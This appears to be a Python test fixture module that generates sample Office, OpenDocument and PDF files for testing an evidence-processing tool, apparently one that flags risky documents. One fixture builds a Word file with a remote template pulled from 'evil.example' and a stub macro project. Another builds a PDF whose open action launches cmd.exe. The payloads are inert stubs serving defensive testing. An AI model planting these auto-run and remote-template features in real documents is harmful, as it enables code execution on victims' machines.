"""Office files and PDFs, as their programs write them."""

import io

import docx
import pikepdf

from tests.evidence.samples.exports import zipped

_CORE = (
    '<cp:coreProperties xmlns:cp="c" xmlns:dc="d" xmlns:dcterms="t">'
    "<dc:title>The album</dc:title><dc:creator>Sian &amp; Co</dc:creator>"
    '<dcterms:created xsi:type="dcterms:W3CDTF">2026-06-23T20:14:05Z</dcterms:created>'
    "</cp:coreProperties>"
)
_TYPES = "[Content_Types].xml"


def word() -> bytes:
    """A Word document by python-docx."""
    paper = docx.Document()
    paper.core_properties.author = "Sian Example"
    paper.core_properties.title = "The album"
    paper.add_heading("What was said")
    paper.add_paragraph("Look what she posted.")
    paper.add_table(1, 2).rows[0].cells[1].text = "in a cell"
    out = io.BytesIO()
    paper.save(out)
    return out.getvalue()


def word_with_macros() -> bytes:
    """A document that runs something, and takes its template from elsewhere."""
    return zipped(
        {
            _TYPES: "<Types/>",
            "word/document.xml": "<w:document><w:p><w:r><w:t>Open</w:t></w:r>"
            "<w:del><w:r><w:delText>what was said</w:delText></w:r></w:del></w:p></w:document>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0",
            "word/_rels/settings.xml.rels": '<Relationship Type="x/attachedTemplate" '
            'Target="https://evil.example/a.dotm" TargetMode="External"/>',
        }
    )


def excel() -> bytes:
    """A workbook: shared words, and words in the cells themselves."""
    return zipped(
        {
            _TYPES: "<Types/>",
            "docProps/core.xml": _CORE,
            "xl/workbook.xml": '<workbook><sheets><sheet name="Rota"/></sheets></workbook>',
            "xl/sharedStrings.xml": "<sst><si><t>Name</t></si>"
            "<si><t>Sian &amp; Fiona</t></si></sst>",
            "xl/worksheets/sheet1.xml": '<worksheet><sheetData><row><c t="s"><v>0</v></c>'
            '<c t="inlineStr"><is><t>In the cell</t></is></c><c><v>42</v></c></row></sheetData>'
            "</worksheet>",
        }
    )


def powerpoint() -> bytes:
    """Slides in order."""
    slide = "<p:sld><a:p><a:r><a:t>Slide {}</a:t></a:r></a:p></p:sld>"
    return zipped(
        {
            _TYPES: "<Types/>",
            "docProps/core.xml": _CORE,
            "ppt/presentation.xml": "<p:presentation/>",
            **{f"ppt/slides/slide{n}.xml": slide.format(n) for n in (1, 10, 2)},
            "ppt/media/image1.png": b"\x89PNG\r\n\x1a\n",
        }
    )


def opendocument() -> bytes:
    """A text of LibreOffice."""
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": "<office:document-content><office:body><office:text>"
            "<text:h>What was said</text:h><text:p>Look<text:s/>what she posted.</text:p>"
            "</office:text></office:body></office:document-content>",
            "meta.xml": "<office:document-meta><office:meta><dc:title>The album</dc:title>"
            "<meta:initial-creator>Sian</meta:initial-creator>"
            "<meta:creation-date>2026-06-23T21:14:05</meta:creation-date></office:meta>"
            "</office:document-meta>",
        }
    )


def launching() -> bytes:
    """A PDF that starts a program, with a form of the XFA kind, its objects packed away."""
    with pikepdf.open(io.BytesIO(pdf())) as paper:
        start = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
        paper.Root.OpenAction = paper.make_indirect(start)
        paper.Root.AcroForm = paper.make_indirect(
            pikepdf.Dictionary(XFA=paper.make_stream(b"<xdp/>"), Fields=pikepdf.Array())
        )
        out = io.BytesIO()
        paper.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        return out.getvalue()


def pdf(*, script: str = "", password: str = "", attached: bytes = b"", pages: int = 1) -> bytes:
    """Pages with a line of text each."""
    with pikepdf.new() as paper:
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
        for number in range(1, pages + 1):
            paper.add_blank_page(page_size=(300, 200))
            page = paper.pages[-1]
            page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
            words = f"BT /F1 12 Tf 20 100 Td (Look what she posted, {number}.) Tj ET"
            page.Contents = paper.make_stream(words.encode())
        paper.docinfo["/Title"] = "The album"
        paper.docinfo["/CreationDate"] = "D:20260623211405+01'00'"
        if script:
            action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=script)
            paper.Root.OpenAction = action
        if attached:
            paper.attachments["note.txt"] = attached
        out = io.BytesIO()
        lock = pikepdf.Encryption(owner=password, user=password) if password else False
        paper.save(out, encryption=lock)
        return out.getvalue()
